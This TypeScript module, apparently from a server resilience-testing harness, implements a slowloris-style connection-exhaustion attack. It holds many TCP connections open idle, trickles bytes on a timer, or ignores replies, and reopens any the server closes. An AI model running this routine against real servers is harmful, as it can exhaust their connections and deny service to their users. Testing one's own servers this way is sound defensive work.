/** TCP connections that are held open: idle ones, requests that come byte by byte, WebSockets without a token, answers that nobody reads. */
import { connect, type Socket } from 'node:net';
import { type AttackCounts, type AttackOrder, createCounts, pause } from './attack.js';

export interface HeldSockets {
  port: number;
  count: number;
  /** Sent at once on each; without it the connection stays silent. */
  opening?: (number: number) => string | Buffer;
  /** Sent on each again and again after the opening. */
  trickle?: { text: string; everyMs: number };
  /** False: what comes back is never read. */
  isReading?: boolean;
}

/** How often connections that the other side closed are opened again. */
const REFILL_MS = 100;

/** Counts the connections that were `opened`, those `closed by peer` and the most that were held at once as `held`. */
export async function holdSockets(held: HeldSockets, order: AttackOrder): Promise<AttackCounts> {
  const { counts, add } = createCounts();
  const sockets = new Set<Socket>();
  let number = 0;

  function open(): void {
    const socket = connect({ port: held.port, host: order.to ?? '127.0.0.1', localAddress: order.from });
    sockets.add(socket);
    if (held.isReading !== false) socket.resume();
    socket.once('connect', () => {
      add('opened');
      const opening = held.opening?.(number++);
      if (opening !== undefined) socket.write(opening);
    });
    socket.once('error', () => {});
    socket.once('close', () => {
      sockets.delete(socket);
      if (!order.signal.aborted) add('closed by peer');
    });
  }

  const { trickle } = held;
  const trickling =
    trickle === undefined
      ? undefined
      : setInterval(() => {
          for (const socket of sockets) if (socket.writable) socket.write(trickle.text);
        }, trickle.everyMs);
  while (!order.signal.aborted) {
    while (sockets.size < held.count) open();
    await pause(REFILL_MS, order.signal);
    const connected = [...sockets].filter(({ pending }) => !pending).length;
    counts.held = Math.max(counts.held ?? 0, connected);
  }
  clearInterval(trickling);
  for (const socket of sockets) socket.destroy();
  return counts;
}
